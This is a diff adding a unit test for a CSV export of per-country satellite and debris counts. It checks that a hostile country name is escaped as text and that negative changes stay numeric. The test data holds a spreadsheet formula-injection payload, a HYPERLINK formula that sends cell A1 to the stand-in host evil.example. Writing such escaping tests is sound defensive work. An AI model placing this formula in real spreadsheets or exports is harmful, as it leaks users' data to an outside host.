@@ -35,4 +35,13 @@ describe('tableCsv', () => {
     );
     expect(line).toBe('"UNITED STATES, ""US""",US,,2,0,-1,1,0,1');
   });
+
+  it('a hostile name or code is written as text, never a formula, while the negative changes stay numbers', () => {
+    const fr = realBoxscore.rows.find((r) => r.code === 'FR')!;
+    const row = { ...fr, country: '=HYPERLINK("http://evil.example/?"&A1,"Details")', code: '-1+1' };
+    const delta = { orbitalTba: 0, orbitalPayload: -2, orbitalRocketBody: 0, orbitalDebris: -10, orbitalTotal: -12, decayedPayload: 0, decayedRocketBody: 0, decayedDebris: 0, decayedTotal: 0, countryTotal: -12 };
+    const [shown] = withChanges([row], [{ country: row.country, code: row.code, status: 'changed', from: fr.counts, to: fr.counts, delta }]);
+    const [, line] = tableCsv([shown!], ['orbitalTba', 'orbitalRocketBody', 'orbitalDebris', 'decayedPayload', 'decayedRocketBody', 'decayedDebris', 'decayedTotal', 'countryTotal'], '2015-02-23').slice(1).split('\r\n');
+    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",'-1+1,60,510,-2,0,-10,-12,0,-12`);
+  });
 });
